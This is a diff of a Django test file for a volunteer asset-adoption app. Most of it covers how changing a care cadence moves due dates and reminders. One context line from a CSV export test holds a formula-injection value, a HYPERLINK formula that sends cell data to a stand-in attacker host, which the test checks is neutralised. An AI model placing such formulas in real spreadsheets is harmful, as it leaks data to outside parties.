@@ -6,14 +6,17 @@ from __future__ import annotations
 import csv
 import io
 import json
-from datetime import date
+from datetime import date, datetime, timedelta
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils import timezone
 
 from adoptions.models import Adoption, Asset
+from adoptions.rules import add_months
 from adoptions.services.adoptions import adoption_end, adoption_start
+from adoptions.services.care import care_log_add
 from adoptions.services.reminders import reminders_send
 from departments.models import Boundary
 from tests.adoptions.conftest import AssetFactory, local
@@ -176,25 +179,59 @@ def test_csv_export_keeps_a_volunteers_formula_from_running(client, superuser, a
     assert [row["nickname"] for row in rows] == ['\'=HYPERLINK("http://evil.example/?"&I2,"x")']
 
 
+def change_cadence(client, superuser, asset_type, months: int):
+    client.force_login(superuser)
+    url = reverse("admin:adoptions_assettype_change", args=[asset_type.pk])
+    response = client.post(url, {
+        "name": asset_type.name, "slug": asset_type.slug, "cadence_months": str(months),
+        "care_instructions": asset_type.care_instructions, "icon": asset_type.icon,
+        "checklist": json.dumps(asset_type.checklist), "service": "", "active": "on",
+    })  # fmt: skip
+    assert response.status_code == 302
+
+
 def test_changing_a_cadence_moves_the_current_due_dates(client, superuser, adoption, volunteer):
-    """Adopted March 1st (due April 1st): at three months, due June 1st, in the stored date
-    the lists and the overdue filter read as in the reminders; ended adoptions stay."""
+    """Adopted March 1st (due April 1st): at three months, counted from the day of the
+    change, in the stored date the lists and the overdue filter read as in the reminders;
+    ended adoptions stay."""
     released = adoption_start(
         asset=AssetFactory(asset_type=adoption.asset.asset_type), volunteer=volunteer,
         accept_terms=True, now=local(2026, 1, 31),
     )  # fmt: skip
     adoption_end(adoption=released, reason="released")
     asset_type = adoption.asset.asset_type
-    client.force_login(superuser)
-    url = reverse("admin:adoptions_assettype_change", args=[asset_type.pk])
-    response = client.post(url, {
-        "name": asset_type.name, "slug": asset_type.slug, "cadence_months": "3",
-        "care_instructions": asset_type.care_instructions, "icon": asset_type.icon,
-        "checklist": json.dumps(asset_type.checklist), "service": "", "active": "on",
-    })  # fmt: skip
-    assert response.status_code == 302
+    change_cadence(client, superuser, asset_type, 3)
     adoption.refresh_from_db()
     released.refresh_from_db()
-    assert adoption.due_on == date(2026, 6, 1) and released.due_on == date(2026, 2, 28)
+    today = timezone.localdate()
+    assert adoption.due_on == add_months(today, 3) and released.due_on == date(2026, 2, 28)
     assert reminders_send(now=local(2026, 4, 2)) == {}  # not overdue any more
-    assert reminders_send(now=local(2026, 5, 29)) == {"due_soon": 1}
+    due = adoption.due_on
+    soon = timezone.make_aware(datetime(due.year, due.month, due.day, 9)) - timedelta(days=2)
+    assert reminders_send(now=soon) == {"due_soon": 1}
+
+
+def test_a_shorter_cadence_counts_from_the_change_and_lapses_nobody(
+    client, superuser, asset_type, volunteer
+):
+    """Every 12 months, last visited ten months ago; made monthly: the months before the
+    change are not ten missed periods (the adoption would lapse the next morning), the
+    first visit by the new cadence is due a month after the change."""
+    asset_type.cadence_months = 12
+    asset_type.save()
+    today = timezone.localdate()
+    started = add_months(today, -11)
+    adoption = adoption_start(
+        asset=AssetFactory(asset_type=asset_type), volunteer=volunteer, accept_terms=True,
+        now=timezone.make_aware(datetime(started.year, started.month, started.day, 9)),
+    )  # fmt: skip
+    care_log_add(adoption=adoption, volunteer=volunteer, day=add_months(today, -10))
+    change_cadence(client, superuser, asset_type, 1)
+    adoption.refresh_from_db()
+    assert adoption.due_on == add_months(today, 1)
+    tomorrow = timezone.now() + timedelta(days=1)
+    assert reminders_send(now=tomorrow) == {}
+    assert Adoption.objects.get(pk=adoption.pk).is_active
+    due = adoption.due_on
+    late = timezone.make_aware(datetime(due.year, due.month, due.day, 9)) + timedelta(days=1)
+    assert reminders_send(now=late) == {"overdue": 1}
